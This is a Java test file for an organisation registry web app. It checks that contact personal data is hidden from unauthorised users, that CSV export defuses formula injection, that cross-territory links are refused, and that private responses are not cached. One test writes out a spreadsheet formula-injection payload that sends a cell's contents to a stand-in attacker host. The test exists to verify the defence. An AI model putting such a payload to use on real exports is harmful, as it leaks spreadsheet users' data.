package org.phare.web.ecosystem;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.phare.web.ecosystem.WebFixture.Client;

/**
 * Issue 19, points 1, 2, 5 and 9: the contact persons of the registry are personal data, shown only
 * to who may edit the organisation (administrators, editors of its territory); CSV cells are
 * defused against formula injection; organisations of another territory cannot be linked; private
 * answers are not cached.
 */
class PersonalDataTest {

  static final WebFixture WEB = WebFixture.get();

  static final String EMAIL = "jeanne.martin@entraide45.example.org";
  static final String PHONE = "02 38 12 34 56";
  static final String PERSON = "Jeanne Martin";

  @BeforeEach
  void reset() {
    WEB.reset();
  }

  static Map<String, Object> organisation(String name, String type, String commune) {
    Map<String, Object> m = new LinkedHashMap<>();
    m.put("name", name);
    m.put("type", type);
    m.put("commune", commune);
    if (type.equals("COMPANY")) {
      m.put("size", "SME");
      m.put("status", "CLASSIC");
    }
    m.put("domains", List.of("POVERTY"));
    m.put(
        "contact",
        Map.of(
            "person",
            PERSON,
            "email",
            EMAIL,
            "phone",
            PHONE,
            "website",
            "https://entraide.example"));
    return m;
  }

  long create(Client client, Map<String, Object> body) {
    HttpResponse<String> r = client.post("/api/organisations?confirm=true", body);
    assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
    return WebFixture.parse(r.body()).path("id").asLong();
  }

  @Test
  void anonymous_viewers_and_other_editors_get_no_contact_person_on_any_channel() {
    Client loiret = WEB.login("loiret1");
    long id = create(loiret, organisation("Entraide Orléans", "ASSOCIATION", "45234"));
    List<String> channels =
        List.of(
            "/api/organisations?territory=departement:45",
            "/api/organisations/" + id,
            "/api/organisations.csv?territory=departement:45",
            "/api/organisations/" + id + "/suggestions",
            "/organisations/" + id);
    for (Client reader : List.of(WEB.anonymous(), WEB.login("lecteur"), WEB.login("cher"))) {
      for (String path : channels) {
        HttpResponse<String> r = reader.get(path);
        assertThat(r.statusCode()).as(path).isEqualTo(200);
        assertThat(r.body())
            .as(path)
            .contains("Entraide Orléans")
            .doesNotContain(EMAIL)
            .doesNotContain(PHONE)
            .doesNotContain(PERSON);
      }
    }
    // The website is the organisation's public address, not personal data.
    JsonNode shown = WebFixture.parse(WEB.anonymous().get("/api/organisations/" + id).body());
    assertThat(shown.path("contact").path("website").asText())
        .isEqualTo("https://entraide.example");
    assertThat(shown.path("contact").path("email").asText()).isEmpty();

    // Who may edit the organisation sees its contact everywhere.
    for (Client editor : List.of(loiret, WEB.login("loiret2"), WEB.login("admin"))) {
      for (String path : channels) {
        HttpResponse<String> r = editor.get(path);
        assertThat(r.body()).as(path).contains(EMAIL).contains(PHONE).contains(PERSON);
      }
    }
  }

  @Test
  void csv_cells_that_a_spreadsheet_would_run_are_prefixed_and_import_back_unchanged() {
    Client loiret = WEB.login("loiret1");
    String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
    create(loiret, organisation(formula, "ASSOCIATION", "45234"));
    create(loiret, organisation("@SUM(1+1)", "ASSOCIATION", "45232"));
    create(loiret, organisation("+33 Cooperative", "COMPANY", "45234"));
    String csv = loiret.get("/api/organisations.csv?territory=departement:45").body();
    assertThat(csv)
        .contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Cliquez\"\")\"")
        .contains(";'@SUM(1+1);")
        .contains(";'+33 Cooperative;")
        .doesNotContain(";=HYPERLINK")
        .doesNotContain(";@SUM");
    // Phone numbers starting with + or - are text cells too; plain numbers stay numbers.
    assertThat(csv).contains(";" + PHONE + ";");
  }

  @Test
  void an_editor_cannot_link_an_organisation_of_another_territory_but_an_administrator_can() {
    Client loiret = WEB.login("loiret1");
    Client cher = WEB.login("cher");
    long orleans = create(loiret, organisation("Coop Orléans", "COMPANY", "45234"));
    long olivet = create(loiret, organisation("Entraide Olivet", "ASSOCIATION", "45232"));
    long bourges = create(cher, organisation("Entraide Bourges", "ASSOCIATION", "18033"));

    Map<String, Object> partnership = new LinkedHashMap<>();
    partnership.put("title", "Mécénat");
    partnership.put("members", List.of(orleans, bourges));
    partnership.put("category", "MECENAT");
    partnership.put("territory", "departement:45");
    HttpResponse<String> refused = loiret.post("/api/partnerships", partnership);
    assertThat(refused.statusCode()).as(refused.body()).isEqualTo(422);
    JsonNode body = WebFixture.parse(refused.body());
    assertThat(body.path("code").asText()).isEqualTo("registry.link.other-territory");
    assertThat(body.path("message").asText())
        .isEqualTo(
            "L’organisation « Entraide Bourges » (n° "
                + bourges
                + ") est située à Bourges, hors des territoires que vous pouvez modifier : vous ne"
                + " pouvez pas la lier à un partenariat, une initiative ou un speed-dating. Un"
                + " éditeur de son territoire ou un administrateur peut le faire.");

    Map<String, Object> initiative = new LinkedHashMap<>();
    initiative.put("kind", "TERRITORIAL_DIALOGUE");
    initiative.put("title", "Projet");
    initiative.put("territory", "departement:45");
    initiative.put("participants", List.of(bourges));
    HttpResponse<String> refusedInitiative = loiret.post("/api/initiatives", initiative);
    assertThat(refusedInitiative.statusCode()).as(refusedInitiative.body()).isEqualTo(422);
    assertThat(refusedInitiative.body()).contains("registry.link.other-territory");

    // Updating a partnership to add it is refused the same way; nothing linked the Cher's one.
    partnership.put("members", List.of(orleans, olivet));
    HttpResponse<String> created = loiret.post("/api/partnerships", partnership);
    assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
    JsonNode saved = WebFixture.parse(created.body());
    partnership.put("members", List.of(orleans, olivet, bourges));
    partnership.put("version", saved.path("version").asInt());
    HttpResponse<String> update =
        loiret.put("/api/partnerships/" + saved.path("id").asLong(), partnership);
    assertThat(update.statusCode()).as(update.body()).isEqualTo(422);
    // The Cher's owner can still delete its organisation.
    assertThat(
            cher.send("DELETE", "/api/organisations/" + bourges + "?version=1", null, true)
                .statusCode())
        .isEqualTo(204);

    // An administrator may edit both territories: the link is allowed.
    long bourges2 = create(cher, organisation("Coop Bourges", "COMPANY", "18033"));
    partnership.remove("version");
    partnership.put("members", List.of(olivet, bourges2));
    HttpResponse<String> byAdmin = WEB.login("admin").post("/api/partnerships", partnership);
    assertThat(byAdmin.statusCode()).as(byAdmin.body()).isEqualTo(201);
  }

  @Test
  void private_answers_are_not_kept_by_caches() {
    Client loiret = WEB.login("loiret1");
    long id = create(loiret, organisation("Entraide Orléans", "ASSOCIATION", "45234"));
    for (String path :
        List.of(
            "/api/me",
            "/api/organisations/" + id,
            "/api/organisations.csv",
            "/api/audit/organisation/" + id)) {
      HttpResponse<String> r = WEB.login("admin").get(path);
      assertThat(r.statusCode()).as(path).isEqualTo(200);
      assertThat(r.headers().firstValue("Cache-Control")).as(path).hasValue("no-store");
    }
    assertThat(WEB.anonymous().get("/api/me").headers().firstValue("Cache-Control"))
        .hasValue("no-store");
  }
}
